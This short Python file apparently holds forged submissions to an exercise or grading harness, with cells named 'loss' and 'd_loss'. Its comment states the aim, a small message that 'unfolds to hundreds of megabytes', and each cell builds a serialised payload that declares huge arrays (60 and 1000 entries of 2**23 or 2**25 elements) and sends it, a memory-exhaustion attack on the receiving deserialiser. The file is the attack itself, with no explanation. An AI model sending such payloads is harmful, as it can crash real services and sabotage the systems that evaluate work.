# attempts = "sends a small message that unfolds to hundreds of megabytes"
# with = "forge"

# %% exercise="loss"
VALUE = '["value",{"l":[' + ",".join('{"a":["|i1",[%d],0]}' % 2**23 for _ in range(60)) + ']}]'
def loss(w):
    send(message(VALUE, bytes(2**23)))
    return w

# %% exercise="d_loss"
def d_loss(w):
    send(message('["value",{"l":[' + ",".join('{"a":["<f8",[%d,0],0]}' % 2**25 for _ in range(1000)) + ']}]', b""))
    return w
